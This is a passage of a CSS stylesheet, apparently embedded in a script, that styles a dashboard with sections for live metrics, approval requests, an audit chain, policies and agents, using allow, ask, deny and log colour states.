  padding: 0 5px;
  border: 1px solid currentColor;
  border-radius: 4px;
  font-size: 12px;
}
.buttons {
  display: flex;
  flex-wrap: wrap;
  gap: 10px;
  margin-top: 12px;
}
input,
select,
textarea {
  font: inherit;
  color: var(--text);
  background: var(--surface);
  border: 1px solid var(--line-strong);
  border-radius: 6px;
  padding: 6px 10px;
  max-width: 100%;
}
input::placeholder,
textarea::placeholder {
  color: var(--muted);
  opacity: 1;
}
input[type="checkbox"],
input[type="radio"] {
  width: 16px;
  height: 16px;
  margin: 0;
  accent-color: var(--accent);
  flex: none;
}
textarea {
  width: 100%;
  font-family: var(--mono);
  font-size: 13px;
  resize: vertical;
}
label > span:first-child {
  font-size: 12px;
  color: var(--muted);
}
.bar {
  display: flex;
  flex-wrap: wrap;
  align-items: end;
  gap: 10px 14px;
  margin-bottom: 12px;
}
.bar h2 {
  margin: 0 6px 6px 0;
}
.bar label,
.field,
.inline label {
  display: flex;
  flex-direction: column;
  gap: 3px;
}
.bar label.check {
  flex-direction: row;
  align-items: center;
  gap: 8px;
}
.bar label.check > span:first-child {
  font-size: inherit;
}
.field {
  margin: 0 0 10px;
}
.inline {
  display: flex;
  gap: 12px;
  flex-wrap: wrap;
  margin-bottom: 10px;
}
.inline input {
  width: 90px;
}
.filters label {
  flex: 1 1 120px;
}
.filters input,
.filters select {
  width: 100%;
}
fieldset {
  border: 0;
  margin: 0 0 12px;
  padding: 0;
  min-width: 0;
}
legend {
  padding: 0;
  margin-bottom: 6px;
  font-size: 12px;
  color: var(--muted);
}
.scroll {
  overflow-x: auto;
  border-radius: 6px;
}
table {
  width: 100%;
  border-collapse: collapse;
  font-variant-numeric: tabular-nums;
}
th,
td {
  padding: 6px 12px 6px 0;
  text-align: left;
  border-bottom: 1px solid var(--line);
  vertical-align: top;
  white-space: nowrap;
}
thead th {
  font-size: 12px;
  font-weight: 600;
  color: var(--muted);
}
tbody th {
  font-weight: 600;
}
th.num,
td.num {
  text-align: right;
  padding-right: 20px;
}
tbody tr:last-child > * {
  border-bottom: 0;
}
.call {
  white-space: normal;
  overflow-wrap: anywhere;
  min-width: 240px;
  width: 50%;
}

/* Of fixed widths: a row that comes moves no column, so the browser measures no other row. */
.stream {
  table-layout: fixed;
  min-width: 760px;
}
.stream th:nth-child(1) {
  width: 88px;
}
.stream th:nth-child(2) {
  width: 92px;
}
.stream th:nth-child(3) {
  width: 150px;
}
.stream th:nth-child(4) {
  width: 110px;
}
.stream th:nth-child(6) {
  width: 190px;
}
.stream td {
  overflow: hidden;
  text-overflow: ellipsis;
}
.stream .call {
  min-width: 0;
  width: auto;
}
.facts {
  margin: 0;
  display: grid;
  gap: 6px;
}
.facts > div {
  display: grid;
  grid-template-columns: 150px minmax(0, 1fr);
  gap: 12px;
}
.facts dt {
  color: var(--muted);
}
.facts dd {
  margin: 0;
  overflow-wrap: anywhere;
}
.wrap {
  overflow-wrap: anywhere;
}
.block {
  margin-bottom: 8px;
}
.code {
  margin: 0;
  padding: 12px 14px;
  max-height: 420px;
  overflow: auto;
  background: var(--sunken);
  border: 1px solid var(--line);
  border-radius: 6px;
  white-space: pre-wrap;
  overflow-wrap: anywhere;
  font-size: 13px;
  line-height: 1.55;
}
.esc {
  padding: 0 2px;
  border-radius: 3px;
  background: var(--ask-soft);
  color: var(--ask);
  font-family: var(--mono);
  font-size: 0.92em;
}
.cut {
  color: var(--muted);
  font-style: italic;
}
.diff span.add,
.diff span.del,
.diff span.same {
  display: block;
  padding: 0 6px;
}
.diff .add {
  background: var(--allow-soft);
  color: var(--allow);
}
.diff .del {
  background: var(--deny-soft);
  color: var(--deny);
}
details > summary {
  cursor: pointer;
  color: var(--muted);
}
details[open] > summary {
  margin-bottom: 8px;
}
.tree,
.tree ul {
  list-style: none;
  margin: 0;
  padding: 0;
}
.tree ul {
  margin-left: 7px;
  padding-left: 16px;
  border-left: 1px solid var(--line);
}
.tree li {
  padding: 3px 0;
}
.leaf {
  display: inline;
  overflow-wrap: anywhere;
}
.kind {
  color: var(--muted);
  font-size: 12px;
}
.decides {
  color: var(--accent);
}
.effects,
.findings,
.rules {
  list-style: none;
  margin: 0;
  padding: 0;
}
.effects li,
.findings li {
  padding: 4px 0;
  overflow-wrap: anywhere;
}
.effect {
  display: inline-block;
  min-width: 52px;
  font-size: 12px;
  font-weight: 600;
  color: var(--muted);
}
.effect.deny {
  color: var(--deny);
}

.bar input:not([type="checkbox"]),
.bar select,
.inline input {
  height: 36px;
}
.bar > button {
  height: 36px;
}
.buttons + div > .notice {
  margin: 12px 0 0;
}

/* Now */
.kpis {
  display: grid;
  grid-template-columns: repeat(auto-fit, minmax(150px, 1fr));
  gap: 12px;
  margin-bottom: 16px;
}
.kpi {
  display: flex;
  flex-direction: column;
  padding: 12px 16px;
  background: var(--surface);
  border: 1px solid var(--line);
  border-radius: var(--radius);
  color: var(--muted);
  font-size: 13px;
  text-decoration: none;
  box-shadow: var(--shadow);
}
.kpi-value {
  font-size: 24px;
  font-weight: 650;
  line-height: 1.25;
  color: var(--text);
  font-variant-numeric: tabular-nums;
}
.kpi.deny .kpi-value {
  color: var(--deny);
}
.kpi.ask .kpi-value {
  color: var(--ask);
}
a.kpi:hover {
  border-color: var(--accent);
}
.chart-box {
  margin: 0;
}
.chart,
.chain {
  display: block;
  width: 100%;
  height: auto;
}
.chart .allow,
.key.allow {
  fill: var(--allow-fill);
  background: var(--allow-fill);
}
.chart .log,
.key.log {
  fill: var(--log-fill);
  background: var(--log-fill);
}
.chart .ask,
.key.ask {
  fill: var(--ask-fill);
  background: var(--ask-fill);
}
.chart .deny,
.key.deny {
  fill: var(--deny-fill);
  background: var(--deny-fill);
}
.grid {
  stroke: var(--line);
}
.tick {
  fill: var(--muted);
  font-size: 11px;
}
.legend {
  display: flex;
  gap: 16px;
  margin-top: 6px;
  color: var(--muted);
  font-size: 12px;
}
.legend span {
  display: inline-flex;
  align-items: center;
  gap: 6px;
}
.key {
  width: 10px;
  height: 10px;
  border-radius: 2px;
}

.chart {
  height: 138px;
}
.chain-box {
  margin: 0 0 12px;
}
.chain-box figcaption {
  margin-top: 2px;
  font-size: 12px;
}

/* Approvals */
.split {
  display: grid;
  grid-template-columns: 340px minmax(0, 1fr);
  gap: 20px;
  align-items: start;
}
.split > section {
  position: sticky;
  top: 76px;
  max-height: calc(100vh - 100px);
  overflow: auto;
}
.batch {
  align-items: center;
  padding: 2px;
}
.batch button {
  padding: 4px 10px;
}
.asks {
  list-style: none;
  margin: 0;
  padding: 2px;
  display: grid;
  gap: 8px;
}
.asks li {
  display: flex;
  align-items: flex-start;
  gap: 10px;
}
.asks input {
  margin-top: 13px;
}
.asks a {
  flex: 1;
  min-width: 0;
  display: block;
  padding: 9px 12px;
  background: var(--surface);
  border: 1px solid var(--line);
  border-radius: var(--radius);
  color: var(--text);
  text-decoration: none;
  overflow-wrap: anywhere;
}
.asks a:hover {
  border-color: var(--line-strong);
}
.asks a[aria-current] {
  border-color: var(--accent);
  box-shadow: inset 3px 0 0 var(--accent);
}
.ask-head {
  display: flex;
  gap: 6px;
  margin-bottom: 2px;
}
.ask-head .left {
  margin-left: auto;
  color: var(--muted);
  font-variant-numeric: tabular-nums;
}
.who {
  margin-bottom: 4px;
}
.asks-why {
  font-size: 20px;
  margin-bottom: 4px;
  overflow-wrap: anywhere;
}
.ask > header {
  margin-bottom: 16px;
}

.answer-bar {
  position: sticky;
  bottom: 0;
  z-index: 2;
  display: flex;
  flex-wrap: wrap;
  align-items: center;
  gap: 8px 12px;
  margin: 0 -4px;
  padding: 12px 16px;
  background: var(--surface);
  border: 1px solid var(--line-strong);
  border-radius: var(--radius) var(--radius) 0 0;
  box-shadow: 0 -4px 16px light-dark(#1a1f2814, #00000066);
}
.answer-bar > span {
  margin-left: auto;
}
.left {
  font-variant-numeric: tabular-nums;
}
.scopes {
  display: grid;
  grid-template-columns: repeat(auto-fit, minmax(150px, 1fr));
  gap: 8px;
}
.scopes legend,
.choices legend {
  grid-column: 1 / -1;
}
.radio {
  display: flex;
  gap: 8px;
  align-items: flex-start;
  padding: 8px 10px;
  border: 1px solid var(--line);
  border-radius: 6px;
  cursor: pointer;
}
.radio > span:first-child,
.radio > span {
  font-size: 14px;
  color: var(--text);
  min-width: 0;
}
.radio input {
  margin-top: 3px;
}
.radio:has(:checked) {
  border-color: var(--accent);
  background: var(--accent-soft);
}
.radio small {
  display: block;
  color: var(--muted);
  overflow-wrap: anywhere;
}
.radio small.bad {
  color: var(--deny);
}
.choices {
  display: grid;
  gap: 8px;
}
.choice code {
  display: block;
  overflow-wrap: anywhere;
}
.choice small code {
  display: inline;
}
.choice.off {
  cursor: default;
  background: var(--sunken);
}
.field input {
  width: 100%;
}

/* Audit */
.chain .open {
  stroke: var(--line-strong);
  stroke-width: 3;
  stroke-dasharray: 2 4;
}
.chain .sealed {
  stroke: var(--accent);
  stroke-width: 3;
}
.chain .anchor {
  fill: var(--surface);
  stroke: var(--accent);
  stroke-width: 2;
}
.chain .last {
  fill: var(--accent);
}
.links {
  list-style: none;
  display: grid;
  grid-template-columns: repeat(auto-fit, minmax(140px, 1fr));
  gap: 10px 22px;
  margin: 8px 0 14px;
  padding: 0;
}
.links li {
  position: relative;
  display: flex;
  flex-direction: column;
  padding: 8px 10px;
  border: 1px dashed var(--line-strong);
  border-radius: 6px;
  font-size: 12px;
}
.links li.anchored {
  border: 1px solid var(--accent);
  background: var(--accent-soft);
}
.links li:not(:last-child)::after {
  content: "";
  position: absolute;
  right: -22px;
  top: 50%;
  width: 21px;
  border-top: 2px solid var(--line-strong);
}

/* Policies */
.policy {
  padding: 10px 0;
  border-bottom: 1px solid var(--line);
}
.policy:last-child {
  border-bottom: 0;
}
.policy summary {
  color: var(--text);
  overflow-wrap: anywhere;
}
.hits {
  float: right;
  margin-left: 12px;
  font-size: 12px;
  font-weight: 600;
  color: var(--accent);
}
.hits.none {
  color: var(--muted);
  font-weight: 400;
}
.rules li {
  padding: 10px 0 10px 16px;
  border-left: 2px solid var(--line);
  margin: 8px 0;
}
.rule-head {
  margin-bottom: 4px;
}
.verdict {
  font-size: 16px;
}

/* Agents */
.meter {
  display: block;
  width: 160px;
  height: 10px;
  margin-top: 5px;
}
.meter-all {
  display: block;
  height: 100%;
  border-radius: 3px;
  background: var(--log-fill);
  overflow: hidden;
}
.meter-deny {
  display: block;
  height: 100%;
  background: var(--deny-fill);
}

@media (max-width: 800px) {
  .top {
    padding: 8px 14px;
    gap: 4px 12px;
  }
  .top nav {
    order: 3;
    flex: 1 0 100%;
  }
  .tools {
    margin-left: auto;
    gap: 2px;
  }
  nav a {
    padding: 6px 5px;
    font-size: 13px;
  }
  .tools button {
    padding: 6px;
  }
  kbd {
    display: none;
  }
  .answer-bar > span {
    margin-left: 0;
    flex: 1 0 100%;
  }
  main {
    padding: 16px 14px;
  }
  .card {
    padding: 14px;
  }
  .split {
    grid-template-columns: minmax(0, 1fr);
  }
  .split > section {
    position: static;
    max-height: 280px;
  }
  .detail {
    scroll-margin-top: 104px;
  }
  .kpis {
    grid-template-columns: repeat(2, minmax(0, 1fr));
  }
  .facts > div {
    grid-template-columns: minmax(0, 1fr);
    gap: 0;
  }
  .links li::after {
    display: none;
  }
  button.big {
    flex: 1;
  }
}
@media (prefers-reduced-motion: no-preference) {
  .state[data-state="live"] .dot {
    animation: beat 2.4s ease-in-out infinite;
  }
  @keyframes beat {
    50% {
      opacity: 0.45;
    }
  }
}
@media (forced-colors: active) {
  .badge,
  .radio,
  .asks a {
    border: 1px solid;
  }
}
`
